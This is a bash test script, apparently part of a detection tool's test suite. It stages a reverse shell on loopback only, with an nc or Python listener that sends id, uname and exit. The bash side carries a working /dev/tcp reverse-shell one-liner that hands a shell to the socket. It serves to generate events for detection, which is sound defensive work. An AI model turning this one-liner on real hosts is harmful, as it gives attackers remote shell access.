#!/usr/bin/env bash
# Reverse-shell look-alike, loopback only: a listener on 127.0.0.1 sends three
# harmless commands; a bash connects back to it over /dev/tcp and runs them
# with its stdin/stdout on the socket. Ends by itself (exit, then timeouts).
set -euo pipefail
cd "$(dirname "$0")" && . ./lib.sh
need bash timeout
port=$(pick_port)
cmds=$'id\nuname -a\nexit\n'

say "reverse shell to $LOOPBACK:$port"
if command -v nc >/dev/null 2>&1 && nc -h 2>&1 | grep -qi openbsd; then
  note "listener: nc (OpenBSD netcat)"
  printf '%s' "$cmds" | timeout 15 nc -l "$LOOPBACK" "$port" &
else
  need python3
  note "listener: python3 (no OpenBSD nc found)"
  timeout 15 python3 - "$LOOPBACK" "$port" "$cmds" <<'PY' &
import socket, sys
host, port, cmds = sys.argv[1], int(sys.argv[2]), sys.argv[3]
assert host == "127.0.0.1"
srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind((host, port)); srv.listen(1)
conn, _ = srv.accept(); conn.sendall(cmds.encode())
while data := conn.recv(4096):
    sys.stdout.write(data.decode(errors="replace"))
PY
fi
listener=$!
# The "victim" side: what vigil records as bash -c '... /dev/tcp/127.0.0.1/...'.
# No probe connection first: the listener accepts exactly one. Retry the
# connect instead until the listener is up (connect failure: exit 1).
for ((i = 0; i < 50; i++)); do
  timeout 10 bash -c "exec 3<>/dev/tcp/$LOOPBACK/$port; exec bash <&3 >&3 2>&3" 2>/dev/null && break
  sleep 0.1
done
wait "$listener" || true
note "look for: bash exec with argv containing /dev/tcp/$LOOPBACK/$port, then id and uname as its children"
